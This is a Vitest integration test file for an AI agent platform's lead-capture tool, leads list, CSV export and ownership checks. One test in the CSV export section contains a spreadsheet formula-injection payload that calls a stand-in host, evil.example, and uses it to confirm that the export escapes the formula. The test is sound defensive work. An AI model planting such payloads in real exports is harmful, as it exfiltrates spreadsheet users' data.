import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { domainEvents, leads } from '../../src/server/db/tool-tables';
import { recordLead } from '../../src/server/conversation/leads/service';
import { startFakeLlm, type FakeLlm } from '../fixtures/fake-llm';
import { createTestApp, type TestApp } from '../support/test-app';
import { signUp, type SessionClient } from '../support/session-client';
import { createAgent, sampleAgent, useFakeModel } from '../support/agents';

let t: TestApp;
let llm: FakeLlm;
let owner: SessionClient;
let intruder: SessionClient;
let projectId: string;
let agentId: string;

const leadAgent = {
  ...sampleAgent,
  websiteUrls: [],
  enabledTools: { ...sampleAgent.enabledTools, sendEmail: false, captureLead: true },
  toolConfigs: {
    captureLead: {
      fields: [
        { key: 'company', label: 'Company', required: true },
        { key: 'budget', label: 'Budget', required: false },
      ],
    },
  },
};

type Step = { type: string; name: string; status?: string; input?: unknown; output?: unknown; error?: string };
type LeadJson = { id: string; agentId: string | null; agentName: string | null; channel: string; isTest: boolean; name: string | null; email: string | null; phone: string | null; fields: Record<string, string>; conversationId: string | null; sessionId: string | null; createdAt: string };

beforeAll(async () => {
  llm = await startFakeLlm();
  t = await createTestApp({ SIGNUP_MODE: 'open', ALLOW_PRIVATE_URLS: llm.host, MODEL_TIMEOUT_MS: '3000' });
  owner = (await signUp(t.app)).client;
  intruder = (await signUp(t.app)).client;
  ({ projectId, agent: { id: agentId } } = await createAgent(owner, leadAgent));
  await useFakeModel(owner, projectId, llm.baseUrl);
});
afterAll(async () => {
  await t?.close();
  await llm?.close();
});
beforeEach(() => {
  llm.requests.length = 0;
  t.setNow(null);
});

async function captureInConsole(args: Record<string, unknown>) {
  llm.script({ kind: 'tool', name: 'capture_lead', args }, { kind: 'reply', text: 'Thanks, we will be in touch.' });
  const res = await owner.post(`/api/agents/${agentId}/test`, { input: 'Please contact me.' });
  expect(res.statusCode).toBe(200);
  return (res.json().steps as Step[]).find((s) => s.type === 'tool' && s.name === 'capture_lead');
}

const leadCount = async () => (await t.deps.db.select({ id: leads.id }).from(leads)).length;

describe('capture_lead', () => {
  it('stores a lead from a Testing Console turn, with a lead_converted event', async () => {
    const step = await captureInConsole({ name: 'Ada Lovelace', email: 'ada@example.com', phone: '+44 20 7946 0000', company: 'Analytical Engines' });

    const tool = (llm.requests[0].body.tools as { function: { name: string; parameters: { properties: Record<string, unknown>; required: string[] } } }[]).find((x) => x.function.name === 'capture_lead');
    expect(Object.keys(tool?.function.parameters.properties ?? {})).toEqual(['name', 'email', 'phone', 'company', 'budget']);
    expect(tool?.function.parameters.required).toEqual(['company']);

    expect(step).toMatchObject({ status: 'success', output: { saved: true } });
    const leadId = (step?.output as { leadId: string }).leadId;

    const list = await owner.get(`/api/projects/${projectId}/leads`);
    expect(list.statusCode).toBe(200);
    const found = (list.json().leads as LeadJson[]).find((l) => l.id === leadId);
    expect(found).toMatchObject({ agentId, agentName: 'Support Bot', channel: 'test', isTest: true, name: 'Ada Lovelace', email: 'ada@example.com', phone: '+44 20 7946 0000', fields: { company: 'Analytical Engines' }, conversationId: null });

    const events = await t.deps.db.select().from(domainEvents).where(eq(domainEvents.type, 'lead_converted'));
    const event = events.find((e) => (e.payload as { leadId: string }).leadId === leadId);
    expect(event).toMatchObject({ projectId, agentId });
    expect(event?.payload).toMatchObject({ leadId, agentId, channel: 'test', name: 'Ada Lovelace', email: 'ada@example.com', phone: '+44 20 7946 0000', fields: { company: 'Analytical Engines' } });
  });

  it('stores a lead from a public chat turn on a published version', async () => {
    const versionId = (await owner.post(`/api/agents/${agentId}/publish`)).json().id as string;
    const sessionId = `lead-chat-${Date.now()}`;
    llm.script({ kind: 'tool', name: 'capture_lead', args: { name: 'Grace Hopper', phone: '555 0100 22', company: 'Navy' } }, { kind: 'reply', text: 'Saved.' });
    const res = await t.app.inject({ method: 'POST', url: `/api/agent-versions/${versionId}/chat`, payload: { message: 'Call me at 555 0100 22', sessionId }, remoteAddress: '10.7.0.1' });
    expect(res.statusCode).toBe(200);
    expect(res.json().message).toBe('Saved.');

    const [row] = await t.deps.db.select().from(leads).where(eq(leads.sessionId, sessionId));
    expect(row).toMatchObject({ projectId, agentId, agentVersionId: versionId, channel: 'chat', isTest: false, name: 'Grace Hopper', email: null, phone: '555 0100 22', fields: { company: 'Navy' } });
    expect(row.conversationId).toBeTruthy();
    const events = await t.deps.db.select().from(domainEvents).where(eq(domainEvents.type, 'lead_converted'));
    expect(events.some((e) => (e.payload as { leadId: string; conversationId: string }).leadId === row.id && (e.payload as { conversationId: string }).conversationId === row.conversationId)).toBe(true);
  });

  it.each([
    [{ name: 'Bad Mail', email: 'not-an-email', company: 'X' }, /email must match format "email"/],
    [{ name: 'No Contact', company: 'X' }, /at least an e-mail address or a phone number/],
    [{ name: 'No Company', email: 'nc@example.com' }, /company is required/],
    [{ email: 'x@example.com', company: 'X', favourite_colour: 'blue' }, /favourite_colour is not allowed/],
  ])('turns invalid arguments into a tool error and stores nothing (%j)', async (args, message) => {
    const before = await leadCount();
    const step = await captureInConsole(args);
    expect(step).toMatchObject({ status: 'error' });
    expect(step?.error).toMatch(message);
    expect(await leadCount()).toBe(before);
  });
});

describe('the Leads list', () => {
  let analyst: SessionClient;
  let analystProject: string;
  let agentA: string;
  let agentB: string;

  beforeAll(async () => {
    analyst = (await signUp(t.app)).client;
    ({ projectId: analystProject, agent: { id: agentA } } = await createAgent(analyst, { ...leadAgent, name: 'Agent A' }));
    agentB = (await createAgent(analyst, { ...leadAgent, name: 'Agent B' })).agent.id;
    const origin = (agent: string) => ({ projectId: analystProject, agentId: agent, agentVersionId: null, conversationId: null, sessionId: 'seed', channel: 'api', isTest: false });
    for (const day of [10, 11, 12, 13, 14]) {
      t.setNow(new Date(`2025-01-${day}T12:00:00Z`));
      await recordLead(t.deps, origin(agentA), { name: `A ${day}`, email: `a${day}@example.com`, phone: null, fields: {} });
    }
    t.setNow(new Date('2025-02-01T08:00:00Z'));
    await recordLead(t.deps, origin(agentB), { name: 'B 1', email: null, phone: '+1 555 0101', fields: { budget: '5000' } });
    t.setNow(new Date('2025-02-01T09:00:00Z'));
    await recordLead(t.deps, origin(agentB), { name: 'B 2', email: 'b2@example.com', phone: null, fields: {} });
    t.setNow(null);
  });

  const names = (body: { leads: LeadJson[] }) => body.leads.map((l) => l.name);

  it('lists newest first and filters by agent and by dates (whole days, inclusive)', async () => {
    expect(names((await analyst.get(`/api/projects/${analystProject}/leads`)).json())).toEqual(['B 2', 'B 1', 'A 14', 'A 13', 'A 12', 'A 11', 'A 10']);
    const byAgent = (await analyst.get(`/api/projects/${analystProject}/leads?agentId=${agentB}`)).json();
    expect(names(byAgent)).toEqual(['B 2', 'B 1']);
    expect(byAgent.leads[1]).toMatchObject({ agentName: 'Agent B', phone: '+1 555 0101', fields: { budget: '5000' } });
    expect(names((await analyst.get(`/api/projects/${analystProject}/leads?from=2025-01-11&to=2025-01-13`)).json())).toEqual(['A 13', 'A 12', 'A 11']);
    expect(names((await analyst.get(`/api/projects/${analystProject}/leads?from=2025-01-12T12:00:00Z&to=2025-01-13T11:59:59Z`)).json())).toEqual(['A 12']);
  });

  it('pages with a cursor, without repeating or skipping a lead', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const url: string = `/api/projects/${analystProject}/leads?limit=3${cursor ? `&cursor=${cursor}` : ''}`;
      const page = (await analyst.get(url)).json() as { leads: LeadJson[]; nextCursor: string | null };
      seen.push(...names(page).map(String));
      cursor = page.nextCursor;
      pages += 1;
    } while (cursor);
    expect(pages).toBe(3);
    expect(seen).toEqual(['B 2', 'B 1', 'A 14', 'A 13', 'A 12', 'A 11', 'A 10']);
  });

  it('answers 400 for a bad filter or cursor', async () => {
    expect((await analyst.get(`/api/projects/${analystProject}/leads?cursor=bm9wZQ`)).statusCode).toBe(400);
    expect((await analyst.get(`/api/projects/${analystProject}/leads?from=yesterday`)).statusCode).toBe(400);
    expect((await analyst.get(`/api/projects/${analystProject}/leads?agentId=nope`)).statusCode).toBe(400);
  });

  it('exports every matching lead as CSV, streamed in pages (ties on created_at across page boundaries included)', async () => {
    // seven leads share each second, so pages of 500 end inside a group of equal timestamps
    const many = Array.from({ length: 1001 }, (_, i) => ({
      projectId: analystProject,
      agentId: agentA,
      channel: 'widget',
      name: `Bulk ${i}`,
      createdAt: new Date(Date.UTC(2024, 5, 1, 0, 0, Math.floor(i / 7))),
    }));
    await t.deps.db.insert(leads).values(many);
    const res = await analyst.get(`/api/projects/${analystProject}/leads/export?to=2024-12-31`);
    expect(res.statusCode).toBe(200);
    const lines = res.body.replace(/^\uFEFF/, '').trimEnd().split('\r\n');
    expect(lines[0]).toBe('created_at,agent,channel,name,email,phone');
    expect(lines).toHaveLength(1002);
    expect(new Set(lines.slice(1).map((l) => l.split(',')[3]))).toEqual(new Set(many.map((m) => m.name)));
    expect(lines[1]).toMatch(/^2024-06-01T00:02:22\.000Z,Agent A,widget,Bulk (99[4-9]|1000),,$/);
    expect(lines.at(-1)).toMatch(/^2024-06-01T00:00:00\.000Z,Agent A,widget,Bulk [0-6],,$/);
  });
});

describe('CSV export', () => {
  it('neutralises spreadsheet formulas and lists every owner field seen', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
    const step = await captureInConsole({ name: formula, email: 'formula@example.com', company: '@acme', budget: '-5' });
    expect(step).toMatchObject({ status: 'success' });

    const res = await owner.get(`/api/projects/${projectId}/leads/export?agentId=${agentId}`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/);
    const lines = res.body.replace(/^\uFEFF/, '').trimEnd().split('\r\n');
    expect(lines[0]).toBe('created_at,agent,channel,name,email,phone,budget,company');
    const row = lines.find((l) => l.includes('formula@example.com'));
    expect(row).toContain(`,Support Bot,test,"'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")",formula@example.com,,'-5,'@acme`);
    expect(res.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});

describe('API reference', () => {
  it('documents the leads routes', async () => {
    const doc = (await t.app.inject({ method: 'GET', url: '/api/openapi.json' })).json() as { paths: Record<string, Record<string, { summary?: string }>> };
    expect(doc.paths['/api/projects/{id}/leads'].get.summary).toMatch(/leads/);
    expect(doc.paths['/api/projects/{id}/leads/export'].get.summary).toMatch(/CSV/);
    expect(doc.paths['/api/leads/{id}'].delete.summary).toBe('Delete a lead');
  });
});

describe('ownership', () => {
  it("gives another user 404 on the project's leads, their export, and on deleting a lead", async () => {
    const [anyLead] = await t.deps.db.select({ id: leads.id }).from(leads).where(eq(leads.projectId, projectId)).limit(1);
    expect((await intruder.get(`/api/projects/${projectId}/leads`)).statusCode).toBe(404);
    expect((await intruder.get(`/api/projects/${projectId}/leads/export`)).statusCode).toBe(404);
    const denied = await intruder.delete(`/api/leads/${anyLead.id}`);
    expect(denied.statusCode).toBe(404);
    expect(denied.json()).toMatchObject({ message: 'Lead not found' });
    expect(await t.deps.db.select({ id: leads.id }).from(leads).where(eq(leads.id, anyLead.id))).toHaveLength(1);

    expect((await owner.delete(`/api/leads/${anyLead.id}`)).statusCode).toBe(204);
    expect(await t.deps.db.select({ id: leads.id }).from(leads).where(eq(leads.id, anyLead.id))).toHaveLength(0);
    expect((await owner.delete(`/api/leads/${anyLead.id}`)).statusCode).toBe(404);
  });
});
